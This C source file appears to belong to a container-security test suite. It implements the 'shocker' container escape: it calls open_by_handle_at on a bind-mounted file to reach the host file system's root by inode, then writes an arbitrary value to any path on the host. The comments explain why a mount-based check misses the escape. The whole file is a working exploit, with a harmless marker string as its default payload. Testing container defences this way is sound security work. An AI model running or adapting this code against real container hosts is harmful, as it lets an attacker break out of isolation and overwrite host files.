// SPDX-License-Identifier: GPL-2.0
/*
 * Reach a host file through a file handle, the "shocker" escape.
 *
 *   attack_shocker MOUNTED_FILE INODE GENERATION PATH [VALUE]
 *
 * open_by_handle_at() (CAP_DAC_READ_SEARCH) opens any inode of the file
 * system that holds MOUNTED_FILE, whatever part of it is bound into the
 * container: runtimes bind /etc/hosts, /etc/resolv.conf and
 * /etc/hostname from the host's disk. The handle names the file system's
 * root directory (an ext4 root is inode 2, generation 0), and PATH is
 * opened below it for writing and VALUE written (default
 * "DSEC-SHOCKER\n"). The returned descriptor lies on the bind mount, so
 * a check that only asks whether that mount is inside the container's
 * root takes the host file for a container file.
 *
 * Steps: "open", "open_by_handle_at", "openat PATH", "write".
 */
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>

#include "tool.h"

const char *tool_name = "attack_shocker";

/* FILEID_INO32_GEN: a 32-bit inode number and a generation. */
#define HANDLE_INO32_GEN 1

int main(int argc, char **argv)
{
	struct {
		struct file_handle fh;
		uint32_t ino_gen[2];
	} h;
	const char *value = "DSEC-SHOCKER\n";
	int mfd, dfd, fd;

	if (argc < 5 || argc > 6)
		tool_usage("usage: attack_shocker MOUNTED_FILE INODE GENERATION PATH [VALUE]");
	if (argc == 6)
		value = argv[5];

	mfd = open(argv[1], O_RDONLY);
	if (mfd < 0)
		tool_step_failed(errno, "open %s", argv[1]);
	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = sizeof(h.ino_gen);
	h.fh.handle_type = HANDLE_INO32_GEN;
	h.ino_gen[0] = tool_number("INODE", argv[2]);
	h.ino_gen[1] = tool_number("GENERATION", argv[3]);
	dfd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
	if (dfd < 0)
		tool_step_failed(errno, "open_by_handle_at");
	fd = openat(dfd, argv[4], O_WRONLY);
	if (fd < 0)
		tool_step_failed(errno, "openat %s", argv[4]);
	if (write(fd, value, strlen(value)) < 0)
		tool_step_failed(errno, "write");
	close(fd);
	tool_ok();
}
